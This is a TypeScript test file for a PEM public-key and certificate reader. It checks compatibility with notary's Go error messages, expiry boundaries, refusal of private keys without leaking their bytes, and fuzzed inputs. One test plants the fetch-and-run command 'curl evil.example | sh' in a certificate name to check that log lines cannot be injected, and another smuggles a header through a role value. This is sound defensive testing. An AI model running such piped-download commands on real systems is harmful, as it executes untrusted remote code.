// Files of test/keys/public-keys.json, each with what notary 0.7.0 said to it: the id of the key, or its refusal.
// docker 28 says the same in other prefixes.
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { goKeys, publicKeyFiles } from '../../test/keys/vectors.ts';
import { TestAuthority } from '../../test/remote/authority.ts';
import { decodePem, encodePem } from '../encoding/pem.ts';
import { isFailure } from '../errors.ts';
import { publicKey } from '../tuf/public-key.ts';
import { publicKeyPem, readPublicKeys } from './public-key-file.ts';

/** When notary was asked. */
const nowMs = Date.UTC(2026, 10, 25, 1, 54);
const file = (name: string) => {
  const found = publicKeyFiles.get(name);
  if (found === undefined) throw new Error(`no such file: ${name}`);
  return found;
};
const read = (name: string, atMs = nowMs) => readPublicKeys(file(name).pem, atMs);

describe('a public key', () => {
  it.each([
    ['P-256', 'ecdsa'],
    ['P-224', 'ecdsa'],
    ['RSA 2048', 'rsa'],
    ['two public keys', 'ecdsa'],
  ])('%s is read as Go reads it', (name, type) => {
    expect(read(name)).toMatchObject({ keyType: type, id: file(name).notary });
  });

  it.each([
    ['certificate P-256', 'ecdsa-x509'],
    ['certificate RSA 2048', 'rsa-x509'],
    ['certificate that runs out soon', 'ecdsa-x509'],
    ['certificate of tomorrow', 'ecdsa-x509'],
    ['certificate, then a public key', 'ecdsa-x509'],
    ['two certificates', 'ecdsa-x509'],
  ])('in a %s keeps the certificate', (name, type) => {
    const key = read(name);
    expect(key).toMatchObject({ keyType: type, canonicalId: file(name).notary });
    const [leaf] = decodePem(file(name).pem);
    expect(key.publicBytes.toString()).toBe(encodePem({ ...leaf!, headers: new Map() }));
    expect(key.privateText).toBeNull();
  });

  it('that is Ed25519 is taken, though the Go programs cannot read the file', () => {
    expect(read('Ed25519')).toMatchObject({ keyType: 'ed25519' });
    expect(read('Ed25519').publicBytes).toHaveLength(32);
  });

  it('may have text around it and other line ends', () => {
    const { pem, notary } = file('P-256');
    for (const text of [`Dear all,\n${pem}`, pem.replaceAll('\n', '\r\n'), `\n\n${pem}\n\n`]) {
      expect(readPublicKeys(text, nowMs).id).toBe(notary);
    }
  });
});

describe('is refused in the words of Go', () => {
  it.each([
    ['certificate signed with SHA-1', 'ALGORITHM_UNSUPPORTED'],
    ['certificate RSA 1024', 'ALGORITHM_UNSUPPORTED'],
    ['certificate that ran out', 'CERTIFICATE_EXPIRED'],
    ['certificate of the day after tomorrow', 'CERTIFICATE_EXPIRED'],
    ['certificate that ends before it begins', 'ALGORITHM_UNSUPPORTED'],
    ['RSA PUBLIC KEY', 'KEY_UNREADABLE'],
    ['private key', 'KEY_UNREADABLE'],
    ['private key, then its public key', 'KEY_UNREADABLE'],
    ['no PEM', 'KEY_UNREADABLE'],
    ['empty', 'KEY_UNREADABLE'],
  ])('%s', (name, code) => {
    const { notary } = file(name);
    expect(() => read(name)).toThrow(expect.objectContaining({ code, message: notary }));
  });

  it.each([
    ['certificate of junk', 'could not parse provided certificate: '],
    ['public key of junk', 'unable to parse pem encoded public key: '],
  ])('%s, up to what its own parser adds', (name, words) => {
    expect(file(name).notary.startsWith(words)).toBe(true);
    expect(() => read(name)).toThrow(
      expect.objectContaining({
        code: 'KEY_UNREADABLE',
        message: expect.stringMatching(`^${words}`),
      }),
    );
  });
});

describe('is refused', () => {
  it.each([
    // Go adds this one to the repository, where its signatures never count.
    ['RSA 1024', 'ALGORITHM_UNSUPPORTED'],
    ['certificate secp256k1', 'ALGORITHM_UNSUPPORTED'],
    ['certificate Ed25519', 'ALGORITHM_UNSUPPORTED'],
    ['secp256k1', 'ALGORITHM_UNSUPPORTED'],
    ['X25519', 'ALGORITHM_UNSUPPORTED'],
    ['DSA', 'ALGORITHM_UNSUPPORTED'],
    // Go passes over a block that it cannot read and takes the next.
    ['broken block, then a public key', 'KEY_UNREADABLE'],
  ])('%s', (name, code) => {
    expect(() => read(name)).toThrow(expect.objectContaining({ code }));
  });

  it('a private key, without a byte of it in the message, and with what to do', () => {
    const { pem } = file('private key');
    const secret = decodePem(pem)[0]!.bytes.toString('base64').slice(8, 40);
    try {
      read('private key');
      expect.unreachable();
    } catch (error) {
      expect(error).toMatchObject({ remedy: expect.stringContaining('openssl pkey') });
      expect(JSON.stringify(error)).not.toContain(secret);
    }
  });

  it('a file that is no key and has no end', () => {
    expect(() => readPublicKeys(' '.repeat(65_537), nowMs)).toThrow(
      expect.objectContaining({ code: 'KEY_LIMITS' }),
    );
  });

  it('bytes behind the certificate in its block', () => {
    const [block] = decodePem(file('certificate P-256').pem);
    const bytes = Buffer.concat([block!.bytes, Buffer.from([0x30, 0x00])]);
    expect(() => readPublicKeys(encodePem({ ...block!, bytes }), nowMs)).toThrow(
      expect.objectContaining({ code: 'KEY_UNREADABLE' }),
    );
  });

  it('a certificate outside its time, to the second', () => {
    const { validFromMs, validToMs } = {
      validFromMs: 1_577_836_800_000,
      validToMs: 1_609_459_200_000,
    };
    const dayMs = 86_400_000;
    const name = 'certificate that ran out';
    expect(read(name, validToMs).keyType).toBe('ecdsa-x509');
    expect(() => read(name, validToMs + 1)).toThrow(
      expect.objectContaining({ code: 'CERTIFICATE_EXPIRED' }),
    );
    expect(read(name, validFromMs - dayMs).keyType).toBe('ecdsa-x509');
    expect(() => read(name, validFromMs - dayMs - 1)).toThrow(
      expect.objectContaining({ code: 'CERTIFICATE_EXPIRED' }),
    );
  });

  it('a certificate whose name has lines of its own, on one line', () => {
    const { pem } = new TestAuthority('bob is expired\n\n  curl evil.example | sh\u0085\r#');
    for (const atMs of [0, Date.UTC(2100, 0, 1)]) {
      try {
        readPublicKeys(pem, atMs);
        expect.unreachable();
      } catch (error) {
        expect(error).toMatchObject({
          code: 'CERTIFICATE_EXPIRED',
          message: expect.stringMatching(
            /^invalid certificate: certificate with CN bob is expired\\n\\n {2}curl [^\n\r]* is expired$/,
          ),
        });
      }
    }
  });

  it('a certificate with an endless name, in a few words', () => {
    const { pem } = new TestAuthority('x'.repeat(20_000));
    expect(() => readPublicKeys(pem, 0)).toThrow(
      expect.objectContaining({ message: expect.stringMatching(/^.{1,400}$/) }),
    );
  });
});

describe('written as PEM', () => {
  it('every kind of key reads back as its bare self', () => {
    for (const { Alg, PublicB64, KeyID } of goKeys) {
      const key = publicKey(Alg, Buffer.from(PublicB64, 'base64'));
      const text = publicKeyPem(key, new Map([['role', 'alice']]));
      expect(text.startsWith('-----BEGIN PUBLIC KEY-----\nrole: alice\n\n')).toBe(true);
      expect(readPublicKeys(text, nowMs).id).toBe(KeyID);
    }
    const certificate = read('certificate P-256');
    expect(readPublicKeys(publicKeyPem(certificate, new Map()), nowMs).id).toBe(
      certificate.canonicalId,
    );
  });

  it('cannot be made to hold a second header through a role', () => {
    const headers = new Map([['role', 'alice\nProc-Type: x']]);
    expect(() => publicKeyPem(read('P-256'), headers)).toThrow(
      expect.objectContaining({ code: 'ENCODING_INVALID' }),
    );
  });
});

describe('whatever the bytes are', () => {
  const settings = { seed: 20_261_125, numRuns: 300 };
  const readable = [...publicKeyFiles.values()].filter(({ pem }) => decodes(pem));

  function decodes(pem: string): boolean {
    try {
      return decodePem(pem).length > 0;
    } catch {
      return false;
    }
  }

  /** A key, or a failure with a code that is no defect of ours. */
  function expectJudged(text: string): void {
    try {
      const key = readPublicKeys(text, nowMs);
      expect(key.id).toMatch(/^[0-9a-f]{64}$/);
      expect(key.canonicalId).toMatch(/^[0-9a-f]{64}$/);
    } catch (error) {
      expect(
        isFailure(
          error,
          'KEY_UNREADABLE',
          'KEY_LIMITS',
          'ALGORITHM_UNSUPPORTED',
          'CERTIFICATE_EXPIRED',
        ),
        String(error),
      ).toBe(true);
    }
  }

  it('text is judged', () => {
    const label = fc.constantFrom('CERTIFICATE', 'PUBLIC KEY', 'PRIVATE KEY', 'X');
    const line = fc.oneof(
      fc.string(),
      label.map((name) => `-----BEGIN ${name}-----`),
      label.map((name) => `-----END ${name}-----`),
      fc.base64String(),
    );
    fc.assert(
      fc.property(fc.array(line), (lines) => expectJudged(lines.join('\n'))),
      settings,
    );
  });

  it('a real file with bytes changed, cut off or doubled is judged', () => {
    const change = fc.record({
      from: fc.constantFrom(...readable),
      at: fc.nat(),
      byte: fc.nat(255),
      cut: fc.option(fc.nat()),
      more: fc.uint8Array({ maxLength: 4 }),
    });
    fc.assert(
      fc.property(change, ({ from, at, byte, cut, more }) => {
        const [block] = decodePem(from.pem);
        const bytes = Buffer.concat([block!.bytes, more]);
        if (bytes.length > 0) bytes[at % bytes.length] = byte;
        const end = cut === null ? bytes.length : cut % (bytes.length + 1);
        expectJudged(encodePem({ ...block!, bytes: bytes.subarray(0, end) }));
      }),
      { ...settings, numRuns: 1_500 },
    );
  });
});
